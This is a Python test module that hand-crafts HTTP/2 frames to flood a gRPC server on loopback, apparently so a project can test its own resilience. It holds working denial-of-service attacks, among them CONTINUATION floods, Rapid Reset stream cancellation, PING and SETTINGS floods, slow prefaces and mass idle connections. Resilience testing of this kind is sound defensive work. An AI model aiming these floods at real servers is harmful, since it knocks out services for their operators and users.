"""A client without a token sends HTTP/2 to a gRPC port, as much as it can, for some seconds, over loopback.

`python -m tests.kit.strangers.h2_floods KIND HOST:PORT SECONDS` in a process of its own, so that its work is not the
measured one's; it prints one line of JSON with what it has sent. Frames are made by hand: a library would refuse to.
"""

from __future__ import annotations

import json
import os
import select
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 1, 2, 3, 4, 6, 8, 9
UNKNOWN = 0xEE
END_STREAM, END_HEADERS = 1, 4
FRAME_MAX = 16_384
CANCEL = 8
PATIENCE = 0.3
HELD_CONNECTIONS = 2000
"""Of those that say nothing."""

_IDENTIFY = b"/flinklike.Transport/Identify"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A header that is not indexed, in HPACK without Huffman."""
    return b"\x00" + _string(name) + _string(value)


def _string(text: bytes) -> bytes:
    if len(text) < 127:
        return bytes((len(text),)) + text
    rest, encoded = len(text) - 127, bytearray(b"\x7f")
    while rest >= 128:
        encoded.append(rest % 128 | 128)
        rest //= 128
    encoded.append(rest)
    return bytes(encoded) + text


def request_headers(path: bytes = _IDENTIFY) -> bytes:
    """POST http, as gRPC has it, without a token."""
    return (
        b"\x83\x86\x04"
        + _string(path)
        + literal(b":authority", b"x")
        + literal(b"te", b"trailers")
        + literal(b"content-type", b"application/grpc")
    )


@dataclass
class Attack:
    """Where to, for how long, and what came of it."""

    host: str
    port: int
    seconds: float
    sent_bytes: int = 0
    connections: int = 0
    ended_by_peer: int = 0
    began: float = field(default_factory=time.monotonic)

    def goes_on(self) -> bool:
        """Is there time left?"""
        return time.monotonic() - self.began < self.seconds

    @contextmanager
    def connection(self) -> Iterator[socket.socket]:
        """One TCP connection; that the other end closes it, or refuses it, is counted, and no error."""
        try:
            with socket.create_connection((self.host, self.port), timeout=1.0) as made:
                self.connections += 1
                yield made
        except OSError:
            self.ended_by_peer += 1
            time.sleep(0.002)

    def say(self, to: socket.socket, what: bytes) -> None:
        """Send all of it. Where nothing is read for a moment (a connection that was closed may look so), it is over."""
        to.settimeout(PATIENCE)
        to.sendall(what)
        self.sent_bytes += len(what)

    def begin(self, to: socket.socket) -> None:
        """What every HTTP/2 client says first."""
        self.say(to, PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0))

    def repeat(self, block: bytes, first: bytes = b"", *, reads: bool = False) -> None:
        """Send `block` over and over on one connection; on a new one when that has been closed."""
        while self.goes_on():
            with self.connection() as to:
                self.begin(to)
                self.say(to, first)
                while self.goes_on():
                    self.say(to, block)
                    if reads and select.select([to], [], [], 0)[0] and not to.recv(1 << 20):
                        self.ended_by_peer += 1
                        break


def continuation(attack: Attack) -> None:
    """A header block that never ends, of many small headers."""
    headers = literal(b"a", b"b") * (FRAME_MAX // 5)
    attack.repeat(frame(CONTINUATION, 0, 1, headers) * 64, frame(HEADERS, 0, 1, request_headers()))


def empty_frames(attack: Attack) -> None:
    """A header block that never ends, in frames without anything."""
    attack.repeat(frame(CONTINUATION, 0, 1) * 20000, frame(HEADERS, 0, 1, request_headers()))


def many_continuations(attack: Attack) -> None:
    """The same on several connections at once."""
    pids = []
    for _ in range(7):
        pid = os.fork()
        if not pid:
            continuation(attack)
            os._exit(0)
        pids.append(pid)
    continuation(attack)
    for pid in pids:
        os.waitpid(pid, 0)


def large_headers(attack: Attack) -> None:
    """A header block that never ends, of large headers."""
    headers = literal(b"a", b"b" * (FRAME_MAX - 16))
    attack.repeat(frame(CONTINUATION, 0, 1, headers) * 64, frame(HEADERS, 0, 1, request_headers()))


def refused_headers(attack: Attack) -> None:
    """Requests one after another whose headers are larger than what is read of them."""
    stream = 1
    while attack.goes_on():
        with attack.connection() as to:
            attack.begin(to)
            stream = 1
            while attack.goes_on() and stream < 2**31:
                more = literal(b"a", b"b" * (FRAME_MAX - 16))
                parts = [frame(HEADERS, 0, stream, request_headers()), *[frame(CONTINUATION, 0, stream, more)] * 4]
                attack.say(to, b"".join(parts) + frame(CONTINUATION, END_HEADERS, stream, literal(b"a", b"b")))
                stream += 2


def rapid_reset(attack: Attack) -> None:
    """Requests that are taken back at once."""
    headers, block = request_headers(), 200
    reset = struct.pack(">I", CANCEL)
    while attack.goes_on():
        with attack.connection() as to:
            attack.begin(to)
            stream = 1
            while attack.goes_on() and stream < 2**31 - 2 * block:
                numbers = range(stream, stream + 2 * block, 2)
                pairs = (
                    frame(HEADERS, END_HEADERS, one, headers) + frame(RST_STREAM, 0, one, reset) for one in numbers
                )
                attack.say(to, b"".join(pairs))
                stream += 2 * block


def requests(attack: Attack) -> None:
    """Requests without a token, each answered, as many as may be open."""
    headers, block = request_headers(), 50
    message = frame(0, END_STREAM, 1, b"\x00\x00\x00\x00\x00")
    while attack.goes_on():
        with attack.connection() as to:
            attack.begin(to)
            stream = 1
            while attack.goes_on() and stream < 2**31 - 2 * block:
                numbers = range(stream, stream + 2 * block, 2)
                pairs = (
                    frame(HEADERS, END_HEADERS, one, headers) + message[:5] + struct.pack(">I", one) + message[9:]
                    for one in numbers
                )
                attack.say(to, b"".join(pairs))
                while select.select([to], [], [], 0)[0] and to.recv(1 << 20):
                    pass
                stream += 2 * block


def bad_metadata(attack: Attack) -> None:
    """Requests of which gRPC says on stderr what is wrong with them, a line for each."""
    bad, block = b"\x83\x86\x04\x01/" + literal(b":authority", b"x") + literal(b"te", b"none"), 200
    while attack.goes_on():
        with attack.connection() as to:
            attack.begin(to)
            for stream in range(1, 2**31 - 2 * block, 2 * block):
                numbers = range(stream, stream + 2 * block, 2)
                attack.say(to, b"".join(frame(HEADERS, END_HEADERS | END_STREAM, one, bad) for one in numbers))
                if not attack.goes_on():
                    break


def settings(attack: Attack) -> None:
    """SETTINGS without end, each of which asks for an answer."""
    attack.repeat(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 2000, reads=True)


def pings(attack: Attack) -> None:
    """PING without end, each of which asks for an answer."""
    attack.repeat(frame(PING, 0, 0, b"12345678") * 2000, reads=True)


def unread_pings(attack: Attack) -> None:
    """The same from a client that reads none of the answers."""
    attack.repeat(frame(PING, 0, 0, b"12345678") * 2000)


def priorities(attack: Attack) -> None:
    """Frames that mean nothing, and that no limit of the protocol is about."""
    attack.repeat(
        (frame(PRIORITY, 0, 1, b"\x00\x00\x00\x00\x10") + frame(WINDOW_UPDATE, 0, 0, b"\x00\x00\x00\x01")) * 50
    )


def unknown_frames(attack: Attack) -> None:
    """Frames of an unknown kind, which a server has to skip."""
    attack.repeat(frame(UNKNOWN, 0, 0, b"x" * FRAME_MAX) * 64)


def garbage(attack: Attack) -> None:
    """Connections that say something else, one after another."""
    while attack.goes_on():
        with attack.connection() as to:
            attack.say(to, b"\x16\x03\x01\x02\x00" + b"\x00" * 512)
            if not to.recv(1):
                attack.ended_by_peer += 1


def connects(attack: Attack) -> None:
    """Connections that are given up at once."""
    while attack.goes_on():
        with attack.connection() as to:
            attack.begin(to)


def _held(attack: Attack, what: bytes) -> None:
    held: list[socket.socket] = []
    try:
        while attack.goes_on():
            if len(held) < HELD_CONNECTIONS:
                try:
                    held.append(socket.create_connection((attack.host, attack.port), timeout=0.5))
                    attack.connections += 1
                    attack.say(held[-1], what)
                    continue
                except OSError:
                    attack.ended_by_peer += 1
            time.sleep(0.01)
            closed = {one.fileno() for one in select.select([one for one in held if one.fileno() < 1000], [], [], 0)[0]}
            for one in [one for one in held if one.fileno() in closed]:
                if _is_over(one):
                    attack.ended_by_peer += 1
                    held.remove(one)
                    one.close()
    finally:
        for one in held:
            one.close()


def _is_over(connection: socket.socket) -> bool:
    try:
        return not connection.recv(4096)
    except OSError:
        return True


def silence(attack: Attack) -> None:
    """Many connections that say nothing."""
    _held(attack, b"")


def idlers(attack: Attack) -> None:
    """Many connections that have begun, and say nothing more."""
    _held(attack, PREFACE + frame(SETTINGS, 0, 0))


def slow_prefaces(attack: Attack) -> None:
    """Many connections of which each says one byte now and then."""
    held: list[socket.socket] = []
    try:
        for number in range(int(attack.seconds * 20)):
            if len(held) < 100:
                try:
                    held.append(socket.create_connection((attack.host, attack.port), timeout=0.5))
                    attack.connections += 1
                except OSError:
                    attack.ended_by_peer += 1
            for one in list(held):
                try:
                    one.sendall(PREFACE[number % len(PREFACE) :][:1] if number < len(PREFACE) else b"P")
                except OSError:
                    attack.ended_by_peer += 1
                    held.remove(one)
                    one.close()
            time.sleep(0.05)
    finally:
        for one in held:
            one.close()


KINDS: dict[str, Callable[[Attack], None]] = {
    attack.__name__.replace("_", "-"): attack
    for attack in (
        continuation,
        empty_frames,
        many_continuations,
        large_headers,
        refused_headers,
        rapid_reset,
        requests,
        bad_metadata,
        settings,
        pings,
        unread_pings,
        priorities,
        unknown_frames,
        garbage,
        connects,
        silence,
        idlers,
        slow_prefaces,
    )
}


@dataclass(frozen=True, slots=True)
class Sent:
    """What an attack has come to."""

    kind: str
    seconds: float
    sent_bytes: int
    connections: int
    ended_by_peer: int


def run(kind: str, address: str, seconds: float) -> Sent:
    """Attack from this process."""
    host, _, port = address.rpartition(":")
    attack = Attack(host, int(port), seconds)
    KINDS[kind](attack)
    took = time.monotonic() - attack.began
    return Sent(kind, took, attack.sent_bytes, attack.connections, attack.ended_by_peer)


@contextmanager
def flooding(kind: str, address: str, seconds: float) -> Iterator[subprocess.Popen[str]]:
    """Attack from a process of its own during the block, `seconds` at most."""
    command = [sys.executable, "-m", "tests.kit.strangers.h2_floods", kind, address, str(seconds)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as process:
        try:
            yield process
        finally:
            process.kill()


def main(arguments: list[str]) -> int:
    """The command line."""
    kind, address, seconds = arguments
    sent = run(kind, address, float(seconds))
    print(json.dumps({name: getattr(sent, name) for name in Sent.__slots__}))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
